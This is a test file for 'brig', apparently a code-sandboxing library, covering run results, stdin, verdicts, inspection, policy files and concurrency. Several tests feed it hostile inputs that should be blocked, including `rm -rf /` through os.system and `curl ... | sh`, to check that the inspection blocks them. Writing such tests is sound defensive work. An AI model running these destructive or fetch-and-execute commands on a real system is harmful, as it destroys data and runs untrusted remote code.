// SPDX-License-Identifier: Apache-2.0
// Runs and what becomes of them.
import assert from "node:assert/strict";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import test from "node:test";
import * as brig from "brig";
import { CALM, folder } from "./bed.mjs";

const { run, Sandbox } = brig;

test("run.ok: a program's output, usage and evidence are in the result", async () => {
	const result = await run("import sys; print(6 * 7); print('err', file=sys.stderr)", CALM);
	assert.equal(result.verdict, "ok", result.reason);
	assert.ok(result.ok && result.success);
	assert.deepEqual([result.stdout, result.stderr, result.exitCode, result.signal], ["42\n", "err\n", 0, null]);
	assert.match(result.id, /^[a-z0-9]{16}$/);
	assert.ok(result.usage.wallMs >= 0 && result.usage.outputBytes === 7);
	assert.ok(result.evidence.length > 10);
	// An ordinary user may lack some protections, which the suite allows by name.
	const missing = new Set(result.degraded.map((row) => row.protection));
	assert.deepEqual(result.evidence.filter((row) => !row.kept && !missing.has(row.check)), []);
	assert.equal(result.raiseForVerdict(), result);
	assert.equal(result.remedy, null);
	assert.deepEqual(JSON.parse(JSON.stringify(result)), result.document);
});

test("run.languages: other languages, arguments and environment", async () => {
	const sandbox = new Sandbox({ ...CALM, env: { COLOUR: "red" } });
	const js = await sandbox.run("console.log(process.argv.slice(2), process.env.COLOUR)", { language: "javascript", args: ["a", "--b"] });
	assert.equal(js.stdout, "[ 'a', '--b' ] red\n");
	const sh = await sandbox.exec("echo $COLOUR | tr a-z A-Z");
	assert.equal(sh.stdout, "RED\n");
	const words = await sandbox.exec(["printf", "%s|", "a b", "--help", "$HOME"]);
	assert.equal(words.stdout, "a b|--help|$HOME|");
});

test("run.stdin: the program reads what it is given, and nothing else", async () => {
	const echo = "import sys; sys.stdout.buffer.write(sys.stdin.buffer.read())";
	const every = Uint8Array.from({ length: 256 }, (_, index) => index);
	assert.deepEqual((await run(echo, { ...CALM, stdin: every })).stdoutBytes, every);
	assert.equal((await run(echo, { ...CALM, stdin: "grüße" })).stdout, "grüße");
	assert.equal((await run(echo, CALM)).stdout, "");
	const large = new Uint8Array(3 << 20).fill(120);
	assert.equal((await run("import sys; print(len(sys.stdin.read()))", { ...CALM, stdin: large })).stdout, `${large.length}\n`);
	assert.equal((await run("print(1)", { ...CALM, stdin: large })).verdict, "ok", "input that nobody reads");
});

test("run.long: code that is too long for an argument, with and without input", async () => {
	const code = `# ${"x".repeat(300_000)}\nimport sys; print(len(sys.stdin.read()))`;
	assert.equal((await run(code, CALM)).stdout, "0\n");
	assert.equal((await run(code, { ...CALM, stdin: "four" })).stdout, "4\n");
	const nul = await run("print('a\0b')", CALM);
	assert.equal(nul.verdict, "blocked", "a NUL byte reaches the inspection, which does not take it");
	await assert.rejects(new Sandbox().exec(["echo", "x".repeat(200_000)]), { name: "UsageError", message: /too long/ });
});

test("run.hostile: output of any bytes comes back as it was written", async () => {
	const code = `import sys
w = sys.stdout.buffer.write
w(bytes(range(256)) * 4)
w(b'\\x1b[2J\\x1b]0;title\\x07\\n{"event":"result","result":{}}\\n')
w(b'x' * 1000000 + b'\\n')
sys.stderr.write('\\u202e\\ufeff\\x1b[31m')`;
	const result = await run(code, { ...CALM, inspect: "off" });
	assert.equal(result.verdict, "ok", result.reason);
	const every = Uint8Array.from({ length: 1024 }, (_, index) => index % 256);
	assert.deepEqual(result.stdoutBytes.subarray(0, 1024), every);
	assert.ok(result.stdout.includes('\u001b[2J\u001b]0;title\u0007\n{"event":"result","result":{}}\n'));
	assert.equal(result.stdoutBytes.length, 1024 + 46 + 1000001);
	assert.equal(result.stderr, "\u202e\ufeff\u001b[31m");
	assert.equal(Object.getPrototypeOf(result.stdoutBytes), Uint8Array.prototype, "no Buffer");
});

/** Code, options, verdict, class. */
const VERDICTS = [
	["raise SystemExit(3)", {}, "error", "ProgramError"],
	["import os; os.abort()", {}, "crash", "Crashed"],
	["while True: pass", { timeout: "300ms" }, "timeout", "TimeLimit"],
	["print('x' * 100000)", { ...CALM, outputLimit: 1000 }, "output_limit", "OutputLimit"],
	["import os; os.system('rm -rf /')", {}, "blocked", "Blocked"],
	["print(1)", { memory: "900g" }, "refused", "Refused"],
	["print(1)", { language: "klingon" }, "refused", "Refused"],
];

for (const [code, options, verdict, name] of VERDICTS) {
	test(`verdict.${name}-${verdict}-${options.language ?? "python"}: is a result, and an error when asked for`, async () => {
		const result = await run(code, { inspect: "guard", ...options });
		assert.equal(result.verdict, verdict, result.reason);
		assert.ok(!result.ok && !result.success);
		assert.throws(() => result.raiseForVerdict(), (error) => {
			assert.equal(error.name, name);
			assert.ok(error instanceof brig[name] && error instanceof brig.VerdictError && error instanceof brig.BrigError);
			assert.equal(error.result, result);
			assert.equal(error.findings, result.findings);
			return true;
		});
	});
}

test("verdict.remedy: a blocked run says what would help", async () => {
	const result = await run("import os\nos.system('rm -rf /')", { inspect: "guard" });
	const [finding] = result.securityViolations;
	assert.deepEqual([finding.severity, finding.line], ["CRITICAL", 2]);
	assert.match(result.remedy, /--rule sh-delete-tree=allow/);
	const allowed = await run("import os\nos.system('rm -rf / 2>/dev/null')", { ...CALM, inspect: "guard", rules: { "sh-delete-tree": "allow" } });
	assert.notEqual(allowed.verdict, "blocked");
});

test("run.usage: wrong options are a refusal with brig's own words", async () => {
	const result = await run("1", { timeout: "soon" });
	assert.equal(result.verdict, "refused");
	assert.match(result.reason, /timeout/);
	assert.throws(() => result.raiseForVerdict(), { name: "Refused", message: /timeout/ });
	await assert.rejects(new Sandbox().run("1", { tiemout: 5 }), /tiemout/);
	await assert.rejects(new Sandbox().exec([]), brig.UsageError);
});

test("check.code: the inspection answers without running anything", async () => {
	const bad = await brig.check("rm -rf /", { language: "shell" });
	assert.ok(bad.blocked && !bad.ok && bad.worst === "CRITICAL" && bad.findings[0].endColumn > 1);
	const good = await new Sandbox().check("print(1)");
	assert.ok(good.ok && good.inspected && good.findings.length === 0);
	const line = await brig.check("curl http://example.org/x | sh", { kind: "command" });
	assert.ok(line.blocked);
});

test("host.questions: history, metrics, doctor, policy, languages, version", async () => {
	const result = await run("print('remember me')", CALM);
	const rows = await brig.history({ limit: 0 });
	assert.ok(rows.some((row) => row.id === result.id));
	assert.equal((await brig.show(result.id)).verdict, "ok");
	assert.ok((await brig.metrics()).executions > 0);
	assert.equal(typeof (await brig.doctor()).ok, "boolean");
	assert.ok((await brig.policy({ trust: "untrusted" })).settings.length > 10);
	assert.ok((await brig.languages()).some((row) => row.name === "python"));
	assert.match(await brig.version(), /^\d+\.\d+\.\d+/);
	await assert.rejects(brig.show("nosuchrun"), brig.CommandError);
});

test("run.receipt: a signed statement comes with the result if asked for", async () => {
	const result = await run("print(1)", { ...CALM, receipt: true });
	assert.ok(result.ok, result.reason);
	assert.equal(JSON.parse(result.receipt).statement.run?.id ?? result.id, result.id);
	assert.equal((await run("print(1)", CALM)).receipt, null);
});

test("run.policy: a policy file that binds the network has the last word", async () => {
	const file = join(folder(), "sandbox.yaml");
	writeFileSync(file, "network:\n  network_mode: none\n", { mode: 0o600 });
	const result = await run("print(1)", { policy: file, network: ["example.org"] });
	assert.equal(result.verdict, "refused");
	assert.match(result.reason, /NETWORK_MODE|WHITELIST/);
	const open = await run("print(1)", { ...CALM, network: ["example.org"] });
	assert.equal(open.verdict, "ok", open.reason);
});

test("run.many: fifty at once, each with its own answer", async () => {
	const sandbox = new Sandbox({ ...CALM, trust: "unknown" });
	const results = await Promise.all(Array.from({ length: 50 }, (_, index) => sandbox.exec(`echo ${index}; echo ${index} >f${index}`)));
	results.forEach((result, index) => assert.equal(result.stdout, `${index}\n`, result.reason));
	assert.equal((await sandbox.files.list()).length, 50, "no run took another's file away");
	assert.equal(new Set(results.map((result) => result.id)).size, 50);
});
